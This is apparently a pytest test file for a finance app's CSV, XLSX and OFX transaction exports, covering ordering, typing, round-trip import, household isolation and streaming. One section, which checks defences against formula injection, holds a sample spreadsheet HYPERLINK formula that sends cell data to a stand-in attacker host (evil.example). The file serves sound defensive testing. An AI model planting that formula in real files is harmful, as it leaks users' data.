"""GET /exports/transactions (SPEC §12): CSV, XLSX and OFX exports of a range of months.

What a user relies on: every row of the range and only those, in (date, id) order, fields
as the header names them; amounts exact numbers; text a spreadsheet would run as a formula
made inert; a file foyer's own importer reads back into the same rows and the same views;
and any size streamed batch by batch, never built whole.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import math
from collections.abc import Generator
from typing import Any

import anyio
import openpyxl
import pytest
from ofxtools.Parser import OFXTree
from sqlalchemy import Engine
from starlette.requests import ClientDisconnect
from starlette.types import Message, Scope

from foyer.api.routes.exports import Download, _streamed
from foyer.exports import export_chunks
from foyer.exports.cells import FIELDS, inert, money_text, tags_text
from foyer.exports.to_xlsx import CHUNK, xlsx_chunks
from foyer.imports import detect, parse
from foyer.imports.model import ParsedRow
from foyer.read.exports import BATCH, ExportRow, export_batches
from tests.factories import Api, insert_rows, make_transaction, service_row
from tests.helpers import JSON, assert_envelope

HEADER = ",".join(FIELDS) + "\r\n"
PATH = "/exports/transactions"


def export(api: Api, fmt: str = "csv", start: str = "2025-01", end: str = "2025-12") -> Any:
    return api.get(PATH, **{"from": start, "to": end, "format": fmt})


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8"), newline="")))


def xlsx_rows(body: bytes) -> list[tuple[Any, ...]]:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [tuple(c.value for c in row) for row in book.worksheets[0].iter_rows()]


def listed(api: Api) -> list[JSON]:
    items: list[JSON] = api.ok("/transactions", sort="date_asc", limit=500)["items"]
    return items


# -- what the files hold -------------------------------------------------------------------


def test_csv_holds_every_row_of_the_range_oldest_first(api: Api, other_api: Api) -> None:
    ids = api.create_transactions(
        make_transaction(date="2025-03-02", amount=-12.5, tags=["weekly", "bio"]),
        make_transaction(date="2025-01-01", label="SALAIRE", amount=2500, category="salaire"),
        make_transaction(date="2025-03-02", label="LOYER", amount=-1150, expense_type="FIXED"),
        make_transaction(date="2025-12-31", label="REMBOURSE", amount=-9.99, exclude=True),
        make_transaction(date="2024-12-31", label="BEFORE"),
        make_transaction(date="2026-01-01", label="AFTER"),
    )
    other_api.create_transactions(make_transaction(date="2025-06-01", label="NOT MINE"))

    response = export(api)

    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == (
        'attachment; filename="foyer-2025-01-2025-12.csv"'
    )
    assert response.headers["cache-control"] == "no-store"
    assert response.text == HEADER + "".join(
        f"{line}\r\n"
        for line in (
            "2025-01-01,SALAIRE,2500.00,salaire,alimentation,joint,VARIABLE,false,",
            "2025-03-02,CB CARREFOUR 12/06,-12.50,courses,alimentation,joint,VARIABLE,false,"
            '"bio,weekly"',  # tags sorted, one quoted cell
            "2025-03-02,LOYER,-1150.00,courses,alimentation,joint,FIXED,false,",
            "2025-12-31,REMBOURSE,-9.99,courses,alimentation,joint,VARIABLE,true,",
        )
    )
    assert ids[0] < ids[2]  # same day: id order


def test_one_month_range_and_every_format_is_named_and_typed(api: Api) -> None:
    api.create_transactions(
        make_transaction(date="2025-06-30"), make_transaction(date="2025-07-01")
    )
    types = {
        "csv": "text/csv; charset=utf-8",
        "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "ofx": "application/x-ofx",
    }
    for fmt, media_type in types.items():
        response = export(api, fmt, "2025-06", "2025-06")
        assert response.status_code == 200, response.text
        assert response.headers["content-type"] == media_type
        disposition = f'attachment; filename="foyer-2025-06-2025-06.{fmt}"'
        assert response.headers["content-disposition"] == disposition
        assert response.headers["cache-control"] == "no-store"
    assert len(csv_rows(export(api, "csv", "2025-06", "2025-06").content)) == 2


def test_xlsx_cells_are_typed(api: Api) -> None:
    api.create_transactions(
        make_transaction(date="2025-02-03", amount=-12.5, tags=["a", "b, c"]),
        make_transaction(date="2025-02-04", amount=1000.01, exclude=True, label="VIR"),
    )
    response = export(api, "xlsx")
    assert response.status_code == 200
    assert response.headers.get("content-encoding") is None  # a zip already: not gzipped
    rows = xlsx_rows(response.content)
    assert rows[0] == FIELDS
    assert rows[1] == (
        dt.datetime(2025, 2, 3),
        "CB CARREFOUR 12/06",
        -12.5,
        "courses",
        "alimentation",
        "joint",
        "VARIABLE",
        False,
        'a,"b, c"',
    )
    assert rows[2][2] == 1000.01
    assert rows[2][7] is True
    assert rows[2][8] is None  # no tags: an empty cell


def test_tags_cell_is_one_csv_record() -> None:
    tags = ["bio", "a, b", 'say "hi"', "x"]
    cell = tags_text(tags)
    assert cell == 'bio,"a, b","say ""hi""",x'
    assert next(csv.reader([cell])) == tags
    assert tags_text([]) == ""


@pytest.mark.parametrize(
    ("cents", "text"),
    [
        (-1250, "-12.50"),
        (0, "0.00"),
        (5, "0.05"),
        (-5, "-0.05"),
        (100_000_000_000, "1000000000.00"),
    ],
)
def test_money_text_is_exact(cents: int, text: str) -> None:
    assert money_text(cents) == text


# -- formula injection ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A1,"Remboursement")', "+1", "-2", "@x"]


def test_formula_text_is_inert_in_csv_and_xlsx(api: Api, engine: Engine) -> None:
    api.create_transactions(
        *(
            make_transaction(date="2025-04-01", label=label, amount=-12.5, account="-acc")
            for label in FORMULAS
        ),
        make_transaction(
            date="2025-04-02",
            label="OK",
            category="=cat",
            category_parent="+parent",
            account="@acc",
            tags=["=t", "u"],
        ),
    )
    # Leading tabs and carriage returns do not survive the API (it strips text), but rows
    # written below it (a migration, an import) may hold them.
    insert_rows(
        engine,
        api.household_id,
        service_row(date=dt.date(2025, 4, 3), label="\tTAB", category="\rCR", amount_cents=-1),
    )

    text = export(api, "csv").content
    rows = csv_rows(text)[1:]
    expected_labels = [f"'{label}" for label in FORMULAS] + ["OK", "'\tTAB"]
    assert [r[1] for r in rows] == expected_labels
    assert {r[5] for r in rows[:4]} == {"'-acc"}
    assert rows[4][3:6] == ["'=cat", "'+parent", "'@acc"]
    assert rows[4][8] == "'=t,u"
    assert rows[5][3] == "'\rCR"
    assert [r[2] for r in rows] == ["-12.50"] * 4 + ["-54.30", "-0.01"]
    assert b"\r\n2025-04-01,'+1,-12.50," in text  # the amount a bare number, unquoted

    cells = xlsx_rows(export(api, "xlsx").content)[1:]
    assert [r[1] for r in cells] == expected_labels
    assert [r[2] for r in cells] == [-12.5] * 4 + [-54.3, -0.01]
    assert cells[4][3:6] == ("'=cat", "'+parent", "'@acc")
    # XlsxWriter writes the CR as OOXML's `_x000D_`, which Excel reads back as a CR.
    assert cells[5][3] == "'_x000D_CR"
    book = openpyxl.load_workbook(io.BytesIO(export(api, "xlsx").content))
    kinds = {cell.data_type for row in book.worksheets[0].iter_rows() for cell in row}
    assert "f" not in kinds  # no formula anywhere


def test_inert_prefixes_only_formula_starts() -> None:
    for start in "=+-@\t\r\0":
        assert inert(start + "x") == "'" + start + "x"
    for safe in ("", "x=1", " =1", "'=1", "12", "é"):
        assert inert(safe) == safe


# -- read back by foyer's own importer ----------------------------------------------------

ROUND_TRIP = [
    make_transaction(date="2025-01-03", label="CB CARREFOUR", amount=-54.3, category="courses"),
    make_transaction(date="2025-01-03", label="CB CARREFOUR", amount=-54.3, category="courses"),
    make_transaction(
        date="2025-01-31", label='PRLV "EDF" & co <SEPA>, réf; 12', amount=-80, category="énergie"
    ),
    make_transaction(date="2025-02-01", label="VIR SALAIRE", amount=2500.01, category="salaire"),
    make_transaction(
        date="2025-02-14",
        label="PAIEMENT PAR CARTE X4512 LIBRAIRIE DU CENTRE VILLE 13/02",
        amount=-0.01,
        category="loisirs",
    ),
    make_transaction(date="2025-03-31", label="AJUSTEMENT", amount=0, category="divers"),
]
VIEWS_MONTHS = ("2025-01", "2025-02", "2025-03")


def _fields(item: JSON) -> tuple[Any, ...]:
    return tuple(item[f] for f in FIELDS)


@pytest.mark.parametrize("fmt", ["csv", "ofx"])
def test_an_export_imports_back_into_the_same_rows_and_views(
    api: Api, other_api: Api, fmt: str
) -> None:
    # What an import restores: date, label, amount, and from CSV the category and account;
    # the rest is the import's default (uncategorized parent, VARIABLE, kept, no tags).
    rows = [
        {**row, "category_parent": "uncategorized"}
        | ({"category": "uncategorized"} if fmt == "ofx" else {})
        for row in ROUND_TRIP
    ]
    api.create_transactions(*rows)
    exported = export(api, fmt, "2025-01", "2025-03")
    assert exported.status_code == 200

    preview = other_api.upload(exported.content, name=f"foyer.{fmt}")
    assert preview.status_code == 201, preview.text
    assert preview.json()["counts"] == {"rows": len(rows), "duplicates": 0, "errors": 0}
    started = other_api.post(f"/imports/{preview.json()['id']}/commit", None)
    assert started.status_code == 202, started.text
    assert other_api.ok(f"/jobs/{started.json()['job_id']}")["status"] == "succeeded"

    assert [_fields(i) for i in listed(other_api)] == [_fields(i) for i in listed(api)]
    for month in VIEWS_MONTHS:
        for view in ("/dashboard/summary", "/transactions/hierarchy"):
            assert other_api.ok(view, month=month) == api.ok(view, month=month), (view, month)


def test_ofx_is_a_valid_statement_with_stable_ids(api: Api) -> None:
    ids = api.create_transactions(*ROUND_TRIP)
    body = export(api, "ofx").content
    # ofxtools' strict models (lengths, required elements, types) accept the statement.
    tree = OFXTree()
    tree.parse(io.BytesIO(body))
    statement = tree.convert().statements[0]
    assert statement.curdef == "EUR"
    assert [t.fitid for t in statement.banktranlist] == [f"foyer-{i}" for i in ids]
    assert [t.trntype for t in statement.banktranlist] == [
        "DEBIT",
        "DEBIT",
        "DEBIT",
        "CREDIT",
        "DEBIT",
        "CREDIT",
    ]
    assert str(statement.ledgerbal.balamt) == "2311.40"  # the rows' net
    assert statement.banktranlist[2].name == 'PRLV "EDF" & co <SEPA>, réf; 12'
    long = statement.banktranlist[4]
    assert (len(long.name), long.memo) == (32, ROUND_TRIP[4]["label"])
    # foyer's importer reads it back (detect, then parse), the escaped label included.
    detection = detect(io.BytesIO(body))
    parsed = [r for r in parse(io.BytesIO(body), detection) if isinstance(r, ParsedRow)]
    assert [(r.date.isoformat(), r.label, r.amount_cents) for r in parsed] == [
        (t["date"], t["label"], round(t["amount"] * 100)) for t in ROUND_TRIP
    ]


# -- empty ranges, bad ranges, other households --------------------------------------------


def test_an_empty_range_is_the_header_alone(api: Api) -> None:
    api.create_transactions(make_transaction(date="2025-06-12"))
    assert export(api, "csv", "2024-01", "2024-12").content == HEADER.encode()
    assert xlsx_rows(export(api, "xlsx", "2024-01", "2024-12").content) == [FIELDS]
    ofx = export(api, "ofx", "2024-01", "2024-12").content
    assert b"<STMTTRN>" not in ofx
    assert list(parse(io.BytesIO(ofx), detect(io.BytesIO(ofx)))) == []


@pytest.mark.parametrize(
    "params",
    [
        {"to": "2025-12"},
        {"from": "2025-01"},
        {"from": "2025-6", "to": "2025-12"},
        {"from": "2025-13", "to": "2025-12"},
        {"from": "２０２５-01", "to": "2025-12"},
        {"from": "2025-01\n", "to": "2025-12"},
        {"from": "1899-12", "to": "2025-12"},
        {"from": "2025-01", "to": "abc"},
        {"from": "2025-02", "to": "2025-01"},
        {"from": "2025-01", "to": "2025-12", "format": "pdf"},
    ],
)
def test_bad_parameters_are_a_422(api: Api, params: dict[str, str]) -> None:
    error = assert_envelope(api.get(PATH, **params), 422, "validation_error")
    assert error["message"]


def test_a_range_of_centuries_needs_no_cap(api: Api) -> None:
    api.create_transactions(
        make_transaction(date="1950-01-01"), make_transaction(date="2150-12-31")
    )
    assert len(csv_rows(export(api, "csv", "1900-01", "2200-12").content)) == 3


def test_another_households_rows_never_appear(api: Api, other_api: Api) -> None:
    api.create_transactions(make_transaction(label="MINE"))
    other_api.create_transactions(make_transaction(label="THEIRS"), make_transaction(label="X"))
    assert [r[1] for r in csv_rows(export(api).content)[1:]] == ["MINE"]
    assert [r[1] for r in csv_rows(export(other_api).content)[1:]] == ["THEIRS", "X"]
    assert export(api, "ofx").content.count(b"<STMTTRN>") == 1
    assert len(xlsx_rows(export(other_api, "xlsx").content)) == 3


def test_unauthenticated_is_a_401(api: Api) -> None:
    response = api.client.get(f"/api/v1{PATH}", params={"from": "2025-01", "to": "2025-01"})
    assert_envelope(response, 401, "unauthorized")


# -- any size: batches, chunks, constant memory --------------------------------------------


def test_batches_walk_every_row_once_in_date_and_id_order(api: Api, engine: Engine) -> None:
    days = [dt.date(2025, 1, 1) + dt.timedelta(days=i % 5) for i in range(23)]
    ids = insert_rows(engine, api.household_id, *(service_row(date=d) for d in days))
    with api.client.app.state.foyer.database.read() as conn:  # type: ignore[attr-defined]
        batches = list(
            export_batches(
                conn,
                household_id=api.household_id,
                first_month="2025-01",
                last_month="2025-01",
                batch=4,
            )
        )
    assert [len(b) for b in batches] == [4] * 5 + [3]
    walked = [(r.date, r.id) for b in batches for r in b]
    assert walked == sorted(zip(days, ids, strict=True))


def test_a_large_export_is_streamed_batch_by_batch(api: Api, engine: Engine) -> None:
    """60,000 rows: the CSV and OFX come out one chunk per batch of 5,000 rows as they are
    read (the first chunk holds the first batch only), the XLSX in 1 MiB chunks of its
    temporary file; no file is ever built whole in memory."""
    start = dt.date(2025, 1, 1)
    rows = [
        service_row(date=start + dt.timedelta(days=i % 365), amount_cents=-(i % 9_999) - 1)
        for i in range(60_000)
    ]
    insert_rows(engine, api.household_id, *rows)
    database = api.client.app.state.foyer.database  # type: ignore[attr-defined]

    def chunks(fmt: str) -> Generator[bytes, None, None]:
        return export_chunks(
            database,
            household_id=api.household_id,
            first_month="2025-01",
            last_month="2025-12",
            fmt=fmt,  # type: ignore[arg-type]
        )

    csv_stream = chunks("csv")
    first = next(csv_stream)
    assert first.count(b"\r\n") == 1 + BATCH  # the header and one batch, not the file
    rest = list(csv_stream)
    assert len(rest) == 60_000 // BATCH - 1
    assert sum(c.count(b"\r\n") for c in rest) == 60_000 - BATCH

    ofx = list(chunks("ofx"))
    assert len(ofx) == 1 + 60_000 // BATCH + 1  # head, a chunk per batch, tail
    assert max(c.count(b"<STMTTRN>") for c in ofx) == BATCH

    xlsx = list(chunks("xlsx"))
    size = sum(len(c) for c in xlsx)
    assert len(xlsx) == math.ceil(size / CHUNK) > 1
    assert all(len(c) == CHUNK for c in xlsx[:-1])


def test_a_full_sheet_continues_on_the_next() -> None:
    rows = [
        ExportRow(i, dt.date(2025, 1, 1), f"row {i}", -i, "c", "p", "joint", "VARIABLE", False, ())
        for i in range(5)
    ]
    body = b"".join(xlsx_chunks([rows[:3], rows[3:]], sheet_rows=3))
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["transactions", "transactions 2", "transactions 3"]
    labels = [
        [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
        for sheet in book.worksheets
    ]
    assert labels == [["row 0", "row 1"], ["row 2", "row 3"], ["row 4"]]
    assert all(next(sheet.iter_rows(values_only=True)) == FIELDS for sheet in book.worksheets)


def test_a_download_closes_its_file_when_the_client_leaves() -> None:
    """The client leaves after the first chunk: the file's generator (its read connection
    and transaction) is closed when the response ends, not when it is garbage-collected."""
    closed: list[bool] = []

    def chunks() -> Generator[bytes, None, None]:
        try:
            yield b"a"
            yield b"b"
        finally:
            closed.append(True)

    async def leave_after_one() -> list[bytes]:
        got: list[bytes] = []

        async def send(message: Message) -> None:
            if message["type"] == "http.response.body":
                got.append(message["body"])
                raise OSError("client gone")

        async def receive() -> Message:
            await anyio.sleep_forever()
            raise AssertionError("unreachable")

        download = Download(_streamed(chunks()), media_type="text/csv")
        scope: Scope = {"type": "http", "asgi": {"spec_version": "2.4"}}
        with pytest.raises(ClientDisconnect):
            await download(scope, receive, send)
        assert closed == [True]  # already: `download` (and its body) is still referenced
        return got

    assert anyio.run(leave_after_one) == [b"a"]
